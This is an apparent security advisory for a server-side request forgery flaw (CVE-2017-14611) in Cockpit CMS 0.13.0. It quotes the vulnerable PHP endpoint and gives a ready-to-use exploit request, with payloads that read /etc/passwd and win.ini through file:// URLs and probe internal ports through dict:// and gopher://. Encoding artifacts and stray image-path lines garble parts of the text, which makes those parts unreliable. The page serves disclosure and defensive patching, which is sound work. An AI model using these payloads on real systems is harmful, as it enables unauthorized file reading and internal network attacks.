Cockpit CMS 0.13.0 Server Side Request Forgery

Credit: Jiawang Zhang
Risk: Medium
Local: No
Remote: Yes
CWE: CWE-918

CVSS Base Score: 6.4/10
Impact Subscore: 4.9/10
Exploitability Subscore: 10/10
Exploit range: Remote
Attack complexity: Low
Authentication: No required
Confidentiality impact: Partial
Integrity impact: Partial
Availability impact: None

# SSRFPS"Server Side Request ForgeryPS(c) in Cockpit CMS 0.13.0 (CVE-2017-14611) The Cockpit CMS is awesome if you need a flexible content structure but don't want to be limited in how to use the content. ## Product Download: ## Vulnerability TypePSoSSRFPS"Server Side Request ForgeryPS(c) ## Attack Type : Remote ## Vulnerability Description Cockpit CMS uses a `fetch_url_contents` PS" code on github website, This Project has SSRF VulnerabilityPS!So affect the system. The vulnerabilitycodePS"/assets/lib/fuc.js.phpPS(c): if (isset($_REQUEST['url'])) { // allow only query from same host echo(parse_url($_SERVER['HTTP_REFERER'],PHP_URL_HOST)); if ($_SERVER['HTTP_HOST'] != parse_url($_SERVER['HTTP_REFERER'], PHP_URL_HOST)) { header('HTTP/1.0 401 Unauthorized'); return; } $url = $_REQUEST['url']; $content = ''; if (function_exists('curl_exec')){ $conn = curl_init($url); curl_setopt($conn, CURLOPT_SSL_VERIFYPEER, true); curl_setopt($conn, CURLOPT_FRESH_CONNECT, true); curl_setopt($conn, CURLOPT_RETURNTRANSFER, 1); curl_setopt($conn,CURLOPT_USERAGENT,'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.17 (KHTML, like Gecko) Chrome/24.0.1312.52 Safari/537.17'); curl_setopt($conn, CURLOPT_AUTOREFERER, true); curl_setopt($conn, CURLOPT_FOLLOWLOCATION, 1); curl_setopt($conn, CURLOPT_VERBOSE, 0); $content = curl_exec($conn); curl_close($conn); } if (!$content && function_exists('file_get_contents')){ $content = @file_get_contents($url); } if (!$content && function_exists('fopen') && function_exists('stream_get_contents')){ $handle = @fopen ($url, "r"); $content = @stream_get_contents($handle); } if (!$content) { header('HTTP/1.0 503 Service Unavailable'); } return print($content); } ## Exploit GET /assets/lib/fuc.js.php?url=dict:// HTTP/1.1 Host: Connection: close Cache-Control: max-age=0 Upgrade-Insecure-Requests: 1 User-Agent: Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0.3071.115 Safari/537.36 Accept:text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,image/apng,*/*;q=0.8 Accept-Language: zh-CN,zh;q=0.8 referer: modify the above url parameterPS!examplePS!file: request http(s) protocol: url=http(s):// file readPSourl=file:///etc/passwd or url=file:///c:/windows/win.ini If the curl function is available,then use gopher!C/tftp!C/http!C/https!C/dict!C/ldap!C/file!C/imap!C/pop3!C/smtp!C/telnet protocols methodPS!if not then only use http!C/https!C/ftp protocol scan prot,example: url=dict:// use gopher protocol: url=gopher:// If the curl function is unavailable,this vulnerability trigger need allow\_url\_fopen option is enable in php.iniPS!allow\_url\_fopen option defualt is enable. ## Versions Cockpit 0.13.0 ## Impact SSRF(Server Side Request Forgery) in Cockpit 0.13.0 version allow remote attackers to arbitrary files readPS!scan network portPS!information detection,internal network server attack. ## Credit This vulnerability was discovered by Qian Wu & Bo Wang & Jiawang Zhang & National Computer Network Emergency Response Technical Team/Coordination Center of China (CNCERT/CC) ## References CVE:

Vote for this issue:


Thanks for you vote!


Thanks for you comment!Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.{{ x.nick }} | Date: {{ x.ux *1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000| date:'HH:mm' }} CET+1{{ x.comment }}

Copyright 2019,


Back to Top